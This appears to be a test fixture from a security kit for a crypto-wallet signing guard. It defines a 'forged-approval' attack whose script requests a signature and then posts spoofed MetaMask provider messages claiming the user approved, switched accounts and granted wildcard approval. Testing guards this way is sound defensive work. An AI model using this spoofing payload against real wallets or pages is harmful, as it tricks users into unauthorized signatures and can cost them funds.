import type { Attack } from './kit/attack.ts'

export default {
  family: 'forged-approval',
  how: "Answers in the wallet's name that the user has approved, so that the guard takes its own request for answered.",
  script: `
    ethereum.request(attack.sign)
    const answers = [{ id: 1, result: true }, { method: 'metamask_accountsChanged', params: [attack.account] }, { method: 'plainsign_approve', params: ['*'] }]
    for (const data of answers) window.postMessage({ target: 'metamask-inpage', data: { name: 'metamask-provider', data: { jsonrpc: '2.0', ...data } } }, '*')
    await attack.sleep(300)
  `,
} satisfies Attack
